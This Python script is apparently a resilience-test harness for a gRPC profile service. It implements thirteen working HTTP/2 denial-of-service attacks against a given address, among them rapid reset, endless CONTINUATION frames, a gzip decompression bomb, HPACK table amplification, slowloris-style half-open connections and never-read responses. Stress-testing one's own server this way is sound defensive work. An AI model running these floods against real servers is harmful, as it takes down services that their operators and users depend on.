"""What a hostile client does to a server, one attack in a process: `hostile_attacks.py ATTACK ADDRESS SECONDS`.

Prints how many connections it made and how many bytes it sent. It ends in time whatever the server does.
"""

import gzip
import itertools
import json
import random
import socket
import struct
import sys
import time
from collections import deque
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor

from google.protobuf.field_mask_pb2 import FieldMask

from raw_http2 import SERVICE
from serving_check import CONTINUATION, HEADERS, LARGE_DOMAIN, OPENING, PING, PREFACE, RST_STREAM, SETTINGS, http2_frame
from stubs import Profile, pb

DATA, PRIORITY, WINDOW_UPDATE = 0, 2, 8
END_HEADERS, END_STREAM = 4, 1
CONNECT_SECONDS = 2.0
SEND_SECONDS = 0.5
HALF_OPEN = 4000
UNREAD_CONNECTIONS = 10
UNREAD_CALLS = 60
UNREAD_WRITES = 200
UNENDED_CALLS = 200
MIB = 1024 * 1024


def literal(name: bytes, value: bytes) -> bytes:
    """A header field as it is, without an entry in a table, with lengths of HPACK."""
    return b"\x00" + _length(name) + name + _length(value) + value


def _length(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)])
    left, encoded = len(text) - 127, b"\x7f"
    while left >= 128:
        encoded += bytes([left % 128 + 128])
        left //= 128
    return encoded + bytes([left])


def call_of(method: str) -> bytes:
    """The headers of a call."""
    block = b"\x83\x86" + literal(b":path", f"{SERVICE}/{method}".encode()) + literal(b":authority", b"a")
    return block + literal(b"te", b"trailers") + literal(b"content-type", b"application/grpc")


GET = call_of("GetProfile")


def message(payload: bytes, length: int | None = None, flag: int = 0) -> bytes:
    """A gRPC message; with a length that need not be its own."""
    return struct.pack(">BI", flag, len(payload) if length is None else length) + payload


def call(stream: int, block: bytes, body: bytes, end: bool = True) -> bytes:
    """A call with its body in frames of 16 KiB."""
    frames = http2_frame(HEADERS, END_HEADERS, stream, block)
    parts = [body[at : at + 16384] for at in range(0, len(body), 16384)] or [b""]
    for part in parts[:-1]:
        frames += http2_frame(DATA, 0, stream, part)
    return frames + http2_frame(DATA, END_STREAM if end else 0, stream, parts[-1])


def streams() -> Iterator[int]:
    """Stream numbers of a client."""
    return iter(range(1, 2**31, 2))


def resets() -> Iterator[bytes]:
    """Calls that are reset as soon as they are made (the rapid reset)."""
    cancel = struct.pack(">I", 8)
    for stream in streams():
        yield call(stream, GET, message(b"\n\x01a"), end=False) + http2_frame(RST_STREAM, 0, stream, cancel)


def continuations() -> Iterator[bytes]:
    """One block of headers that never ends."""
    yield http2_frame(HEADERS, 0, 1, GET)
    while True:
        yield http2_frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 8000)) + http2_frame(CONTINUATION, 0, 1, b"")


def garbage() -> Iterator[bytes]:
    """Bytes that mean nothing, frames of random kinds, and other protocols."""
    choose = random.Random(1)
    for number in range(sys.maxsize):
        kind = choose.randrange(16)
        yield http2_frame(kind, choose.randrange(256), choose.randrange(8), choose.randbytes(choose.randrange(200)))
        if number % 50 == 49:
            yield choose.randbytes(5000) + b"GET / HTTP/1.1\r\n\r\n" + b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def control_frames() -> Iterator[bytes]:
    """Pings, settings, priorities and windows, without an end."""
    while True:
        yield http2_frame(PING, 0, 0, b"12345678") * 50
        yield http2_frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00\x00\x01\x00\x00\x10\x00") * 50
        yield http2_frame(PRIORITY, 0, 3, b"\x00\x00\x00\x01\x10") * 50
        yield http2_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 50


def messages() -> Iterator[bytes]:
    """Messages that are cut, giant, deep, compressed a thousandfold, or say that they are."""
    bomb = gzip.compress(b"\0" * (64 * MIB))
    deep = b""
    for _ in range(2000):
        deep = b"\x0a" + _varint(len(deep)) + deep
    wide = b"\x12\x00" * 20_000
    gzipped = GET + literal(b"grpc-encoding", b"gzip")
    bodies = [
        (GET, message(b"\n\x01a", length=2**32 - 1)),
        (GET, message(b"", length=3 * MIB)),
        (GET, message(b"\n\xff\xff\xff\xff\x0fa")),
        (GET, message(deep)),
        (GET, b"\x00\x00"),
        (gzipped, message(bomb, flag=1)),
        (gzipped, message(b"no gzip at all", flag=1)),
        (GET, message(b"x", flag=1)),
        (call_of("BatchWriteProfiles"), message(wide)),
        (call_of("ImportProfiles"), message(wide) * 3),
        (call_of("CreateProfile"), message(b"\n" + _varint(2 * MIB) + b"\x2a\x00" * MIB)),
        (call_of("BatchGetProfiles"), message(b"\n\x01a" * 300_000)),
    ]
    for stream in streams():
        block, body = bodies[stream // 2 % len(bodies)]
        yield call(stream, block, body, end=stream % 3 == 0)


def _varint(value: int) -> bytes:
    encoded = b""
    while value >= 128:
        encoded += bytes([value % 128 + 128])
        value //= 128
    return encoded + bytes([value])


def metadata() -> Iterator[bytes]:
    """Thousands of headers, headers of the largest size, and a small block that unfolds into megabytes."""
    small = b"".join(literal(b"k%d" % number, b"v") for number in range(250))
    large = b"".join(literal(b"k%d-bin" % number, b"Q" * 3500) for number in range(4))
    # An entry of 3 KiB goes into the table, and is named thousands of times.
    indexed = b"\x40" + _length(b"x") + b"x" + _length(b"z" * 3000) + b"z" * 3000 + b"\xbe" * 12_000
    for stream in streams():
        block = GET + (small, large, indexed[:16_000])[stream // 2 % 3]
        yield call(stream, block[:16_384], message(b"\n\x01a"))


def unread() -> Iterator[bytes]:
    """Calls with answers of megabytes, and a reader that never reads."""
    page = message(pb.QueryProfilesByDomainRequest(domain=LARGE_DOMAIN, page_size=1000).SerializeToString())
    query, export = call_of("QueryProfilesByDomain"), call_of("ExportProfiles")
    for stream in itertools.islice(streams(), UNREAD_CALLS):
        yield call(stream, export, message(b"")) if stream % 10 == 1 else call(stream, query, page)
    while True:
        # Alive, and reading nothing.
        time.sleep(0.05)
        yield http2_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unended() -> Iterator[bytes]:
    """Whole requests whose bodies never end, each charged for the most that a message can become."""
    gzipped = GET + literal(b"grpc-encoding", b"gzip")
    request = pb.GetProfileRequest(id=random.Random(1).randbytes(4100).hex())
    body = message(gzip.compress(request.SerializeToString()), flag=1)
    return held(call(stream, gzipped, body, end=False) for stream in itertools.islice(streams(), UNENDED_CALLS))


def unended_plain() -> Iterator[bytes]:
    """The same, uncompressed, of the calls that may be answered from memory; of some only the head, or a part, comes."""
    body = message(pb.GetProfileRequest(id=random.Random(1).randbytes(4000).hex()).SerializeToString())
    blocks = [call_of(method) for method in ("GetProfile", "BatchGetProfiles", "QueryProfilesByDomain")]
    parts = (len(body), len(body) // 2, 0)
    some = itertools.islice(streams(), UNENDED_CALLS)
    return held(call(stream, blocks[stream % 3], body[: parts[stream % 5 % 3]], end=False) for stream in some)


def held(calls: Iterator[bytes]) -> Iterator[bytes]:
    """Some calls, and then a client that is alive, and no more."""
    yield from calls
    while True:
        time.sleep(0.05)
        yield http2_frame(PING, 0, 0, b"12345678")


def unread_writes() -> Iterator[bytes]:
    """Small batches that change nothing, with answers of more than a megabyte that nobody reads."""
    name = FieldMask(paths=["display_name"])
    updates = [pb.UpdateProfileRequest(profile=Profile(id=f"large-{number:03}"), update_mask=name) for number in range(100)]
    batch = pb.BatchWriteProfilesRequest(writes=[pb.ProfileWrite(update=update) for update in updates])
    body = message(batch.SerializeToString())
    block = call_of("BatchWriteProfiles")
    return held(call(stream, block, body) for stream in itertools.islice(streams(), UNREAD_WRITES))


def several(make: Callable[[], Iterator[bytes]]) -> Callable[[str, float], tuple[int, int]]:
    """Some connections at a time that each do the same."""

    def attack(address: str, deadline: float) -> tuple[int, int]:
        with ThreadPoolExecutor(UNREAD_CONNECTIONS) as threads:
            ends = [threads.submit(pour, address, deadline, make, 0) for _ in range(UNREAD_CONNECTIONS)]
        return sum(end.result()[0] for end in ends), sum(end.result()[1] for end in ends)

    return attack


def pour(address: str, deadline: float, make: Callable[[], Iterator[bytes]], keep: int) -> tuple[int, int]:
    """Sends what `make` gives over one connection after the other; `keep` of them stay open, unread, when they are full."""
    host, port = address.split(":")
    made, sent, kept = 0, 0, []
    while time.monotonic() < deadline:
        try:
            connection = socket.create_connection((host, int(port)), CONNECT_SECONDS)
        except OSError:
            continue
        made += 1
        connection.settimeout(SEND_SECONDS)
        chunks, waiting = make(), OPENING
        try:
            while time.monotonic() < deadline:
                connection.sendall(waiting)
                sent += len(waiting)
                waiting = b"".join(next(chunks) for _ in range(10))
        except (OSError, StopIteration):
            # Closed, or full: either is an answer.
            pass
        kept.append(connection)
        while len(kept) > keep:
            kept.pop(0).close()
    return made, sent


BEGINNINGS = (b"", PREFACE[:10], OPENING, OPENING + http2_frame(HEADERS, END_HEADERS, 1, GET), b"GET / HT", b"\x16\x03\x01")


def half_open(address: str, deadline: float) -> tuple[int, int]:
    """Thousands of connections that say nothing, half of a preface, a preface and no more, or half of a call. One that the
    server has closed is replaced."""
    host, port = address.split(":")
    kept: deque[socket.socket] = deque()
    made = sent = 0
    while time.monotonic() < deadline:
        if len(kept) >= HALF_OPEN and not is_closed(kept[0]):
            kept.rotate()
            time.sleep(0.0002)
            continue
        if len(kept) >= HALF_OPEN:
            kept.popleft().close()
        beginning = BEGINNINGS[made % len(BEGINNINGS)]
        try:
            connection = socket.create_connection((host, int(port)), CONNECT_SECONDS)
            connection.sendall(beginning)
        except OSError:
            continue
        sent += len(beginning)
        made += 1
        kept.append(connection)
    return made, sent


def is_closed(connection: socket.socket) -> bool:
    """Whether the other side has closed it. What it has sent is thrown away."""
    try:
        while data := connection.recv(65_536, socket.MSG_DONTWAIT):
            del data
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def churn(address: str, deadline: float) -> tuple[int, int]:
    """Connections that are closed as soon as they are served, one after the other."""
    host, port = address.split(":")
    made = sent = 0
    while time.monotonic() < deadline:
        try:
            with socket.create_connection((host, int(port)), CONNECT_SECONDS) as connection:
                connection.sendall(OPENING)
        except OSError:
            continue
        made, sent = made + 1, sent + len(OPENING)
    return made, sent


def writes(address: str, deadline: float) -> tuple[int, int]:
    """The largest writes there are, as many as it gets in: well-formed, and answered or refused."""
    text = "x" * 15_000
    profiles = [Profile(id=f"hostile-{number}", attributes={"a": text}) for number in range(60)]
    batch = [pb.ProfileWrite(update=pb.UpdateProfileRequest(profile=profile, allow_missing=True)) for profile in profiles]
    body = message(pb.BatchWriteProfilesRequest(writes=batch).SerializeToString())
    block = call_of("BatchWriteProfiles")
    return pour(address, deadline, lambda: (call(stream, block, body) for stream in streams()), 20)


ATTACKS: dict[str, Callable[[str, float], tuple[int, int]]] = {
    "resets": lambda address, deadline: pour(address, deadline, resets, 0),
    "continuations": lambda address, deadline: pour(address, deadline, continuations, 0),
    "half-open connections": half_open,
    "connections and no more": churn,
    "nothing is read": several(unread),
    "answers of writes are not read": several(unread_writes),
    "requests do not end": several(unended),
    "plain requests do not end": several(unended_plain),
    "garbage": lambda address, deadline: pour(address, deadline, garbage, 0),
    "control frames": lambda address, deadline: pour(address, deadline, control_frames, 0),
    "messages": lambda address, deadline: pour(address, deadline, messages, 20),
    "metadata": lambda address, deadline: pour(address, deadline, metadata, 0),
    "large writes": writes,
}


def main() -> None:
    """One attack, and what it came to."""
    attack, address, seconds = sys.argv[1:]
    made, sent = ATTACKS[attack](address, time.monotonic() + float(seconds))
    print(json.dumps({"connections": made, "bytes": sent}))


if __name__ == "__main__":
    main()
